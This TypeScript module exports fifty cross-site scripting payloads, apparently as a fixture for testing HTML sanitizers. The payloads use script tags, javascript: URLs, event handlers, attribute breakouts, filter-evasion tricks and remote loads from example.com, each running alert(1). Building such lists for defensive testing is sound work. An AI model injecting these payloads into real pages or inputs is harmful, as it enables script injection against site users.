const act = 'alert(1)';

const elements = [
  `<script>${act}</script>`,
  `<SCRIPT SRC=//example.com/x.js></SCRIPT>`,
  `<script type=module>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `--><script>${act}</script>`,
  `]]><script>${act}</script>`,
  `<<script>${act}//<</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<style>@import "//example.com/x.css";</style>`,
  `<style>*{background:url(javascript:${act})}</style>`,
  `<link rel=stylesheet href=//example.com/x.css>`,
  `<base href=//example.com/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<iframe src=javascript:${act}></iframe>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<object data=javascript:${act}></object>`,
  `<embed src=javascript:${act}>`,
  `<a href=javascript:${act}>open</a>`,
  `<a href="java&#9;script:${act}">open</a>`,
  `<form action=javascript:${act}><button>send</button></form>`,
  `<button formaction=javascript:${act}>send</button>`,
  `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><script>${act}</script>">`,
];

const handlers = [
  'img src=x onerror',
  'image src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'div onmouseover',
  'iframe onload',
  'object data=x onerror',
  'style onload',
].map((element) => `<${element}=${act}>`);

const attributes = [
  `" onmouseover="${act}`,
  `' onfocus='${act}' autofocus='`,
  `"><img src=x onerror=${act}>`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `\${${act}}{{${act}}}`,
  `__proto__`,
  `%3Cscript%3E${act}%3C/script%3E`,
];

/** 50 texts that run scripts when a page inserts them as markup, as an attribute or as a URL. */
export const payloads: readonly string[] = [...elements, ...handlers, ...attributes];
